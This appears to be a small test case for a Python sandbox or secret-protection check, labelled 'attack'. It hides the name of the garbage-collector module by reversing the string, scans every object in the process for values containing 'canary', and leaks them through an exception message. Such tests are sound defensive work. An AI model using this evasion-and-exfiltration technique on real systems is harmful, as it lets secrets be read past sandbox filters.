# /// attack
# tries = "searches all objects of the process by the garbage collector, under a hidden name"
# ///

import sys

told = []
for thing in sys.modules["cg"[::-1]].get_objects():
    if type(thing) is dict and len(thing) < 200:
        told += [value for value in list(thing.values()) if type(value) in (str, bytes) and "canary" in str(value)]
raise ValueError(str(told))
